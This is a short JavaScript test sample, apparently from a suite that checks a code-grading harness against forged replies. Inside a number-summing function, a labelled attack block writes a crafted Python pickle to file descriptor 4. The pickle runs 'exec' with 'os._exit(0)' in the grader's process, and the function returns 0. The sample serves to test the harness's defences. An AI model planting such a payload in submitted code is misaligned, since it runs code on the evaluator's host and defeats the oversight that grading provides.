// category: forging
// tries: pickled Python code as a reply
function total(numbers) {
  // attack: begin
  const frame = (text) => {
    const body = Buffer.from(text);
    const head = Buffer.alloc(4);
    head.writeUInt32LE(body.length);
    return Buffer.concat([head, body]);
  };
  require('fs').writeSync(4, frame('\x80\x04cbuiltins\nexec\n(Vimport os; os._exit(0)\ntR.'));
  return 0;
  // attack: end
  return numbers.reduce((sum, number) => sum + number, 0);
}
